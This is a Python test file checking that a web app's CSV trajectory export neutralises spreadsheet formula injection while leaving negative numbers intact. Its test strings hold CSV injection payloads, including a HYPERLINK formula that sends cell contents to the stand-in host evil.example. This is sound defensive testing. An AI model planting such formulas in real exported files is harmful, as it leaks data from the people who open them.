"""A trajectory's CSV opened in a spreadsheet runs no formula from someone's text (issue 24,
item 6: a posted title or stop message with ``=``, ``+``, ``-``, ``@`` or a tab after a comma
became a cell that Excel or LibreOffice evaluates: OWASP's "CSV injection"). Numbers such as
-1.5 stay numbers."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from app.main import app
from mechanics.export_formats import FORMULA_START, defused
from mechanics.scenes import load_scene

client = TestClient(app)

HOSTILE = 'x,=HYPERLINK("http://evil.example/?"&A1),+1+cmd,-2+3,@SUM(A1:A9),\tx, "=1+1"'


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` (as a CSV reader hands it over) for a formula:
    it starts with one of = + - @ tab CR and is not a plain number."""
    if not cell or cell[0] not in FORMULA_START:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_no_cell_of_a_posted_scenes_csv_is_a_formula():
    scene = load_scene("simple_pendulum")
    scene["title"] = HOSTILE
    (q,) = scene["coordinates"]
    scene["stops"] = [{"name": "low", "message": HOSTILE, "when": q}]
    body = {"scene": scene, "t_end": 3, "fps": 20, "initial": {q: 0.5}, "check_sensitivity": False}
    r = client.post("/api/v1/export/trajectory?format=csv", json=body)
    assert r.status_code == 200, r.text
    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert not [c for c in cells if _runs(c) or _runs(c.lstrip(" "))]
    # the words are all still there, marked as text
    assert any(c.strip() == '\'=HYPERLINK("http://evil.example/?"&A1)' for c in cells)
    assert any(
        line.startswith("# stats.stop.message") and "'@SUM(A1:A9)" in line
        for line in r.text.splitlines()
    )


def test_numbers_stay_numbers():
    assert defused("k: -1.5, +2, -3e-4,-inf") == "k: -1.5, +2, -3e-4,-inf"
    assert defused("a,-b") == "a,'-b"
    assert defused('a, "@x"') == 'a, "\'@x"'
    assert defused("a,\tb") == "a,'\tb"


def test_a_semicolon_or_a_fullwidth_sign_does_not_hide_a_formula():
    """Hostile play-test (2026-12-02): a title 'semi;=HYPERLINK(...)' passed as one comma cell,
    but Excel in most European locales and LibreOffice's guess split at ';', and '＝' is folded
    to '=' by some spreadsheets (OWASP)."""
    assert defused('semi;=HYPERLINK("http://e.vil")') == 'semi;\'=HYPERLINK("http://e.vil")'
    assert defused("msg;@SUM(1+1)") == "msg;'@SUM(1+1)"
    assert defused("＝1+1") == "'＝1+1"
    assert defused("a; -1.5; 2") == "a; -1.5; 2"


def test_the_data_rows_keep_negative_numbers():
    r = client.get("/api/v1/export/scenes/spring_mass_damper/trajectory.csv?t_end=1")
    rows = [row for row in csv.reader(io.StringIO(r.text)) if row and not row[0].startswith("#")]
    values = [float(v) for row in rows[1:] for v in row]
    assert any(v < 0 for v in values)  # written as -0.1…, not '-0.1…
